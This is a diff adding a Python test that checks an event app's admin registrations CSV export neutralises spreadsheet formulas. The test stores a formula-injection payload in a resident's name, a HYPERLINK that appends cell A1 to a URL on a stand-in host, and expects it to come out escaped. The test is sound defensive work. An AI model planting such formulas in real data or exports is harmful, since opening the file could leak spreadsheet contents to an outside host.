@@ -69,3 +69,20 @@ async def test_dashboard_shows_attendance_at_events_held(sched_client, services)
     await set_attendance(services, event, {a, b})
     page = await (await client.get("/admin?days=7")).text()
     assert '<strong id="attended">2</strong>' in page and "报名者出席率 67%" in page and "正念减压团体" in page
+
+
+async def test_the_registrations_csv_neutralises_spreadsheet_formulas(sched_client, services):
+    import csv
+    import io
+
+    from bot.models import Resident
+    from flows.models import Registration
+
+    client = await as_admin(sched_client, services)
+    event, [registration] = await held_event(services, ["registered"])
+    async with services.db.begin() as session:
+        resident_id = await session.scalar(select(Registration.resident_id).where(Registration.id == registration))
+        (await session.get(Resident, resident_id)).name = '=HYPERLINK("http://x.example/?"&A1,"点我")'
+    resp = await client.get(f"/admin/events/{event}/registrations.csv")
+    rows = list(csv.DictReader(io.StringIO((await resp.text()).lstrip("\ufeff"))))
+    assert rows[0]["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"点我")'
